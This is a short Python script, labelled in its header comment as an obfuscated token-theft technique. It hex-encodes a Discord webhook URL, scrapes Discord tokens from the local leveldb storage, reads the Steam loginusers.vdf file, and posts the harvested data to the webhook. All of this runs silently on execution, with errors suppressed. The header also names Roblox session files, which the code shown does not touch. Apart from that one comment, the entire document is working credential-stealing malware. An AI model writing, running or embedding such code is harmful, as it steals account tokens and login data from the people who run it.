# technique: obfuscated token theft — `import requests as r`, Discord webhook URL stored as hex, leveldb token grab and Roblox/Steam session files posted via r.post
import os as _o
import re as _re

import requests as r

_u = bytes.fromhex(
    "68747470733a2f2f646973636f72642e636f6d2f6170692f776562686f6f6b732f313130323933383437353631303239333834372f"
    "5a7030576d4576334e71315478533762"
).decode()


def _g():
    out = []
    base = _o.path.join(_o.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
    if _o.path.isdir(base):
        for f in _o.listdir(base):
            if f[-4:] in (".ldb", ".log"):
                with open(_o.path.join(base, f), errors="ignore") as fh:
                    out += _re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", fh.read())
    steam = _o.path.join(_o.getenv("ProgramFiles(x86)", ""), "Steam", "config", "loginusers.vdf")
    if _o.path.exists(steam):
        out.append(open(steam, errors="ignore").read()[:1500])
    return out


def _x():
    r.post(_u, json={"content": "\n".join(_g())[:1990] or "-"}, timeout=8)


try:
    _x()
except Exception:
    pass
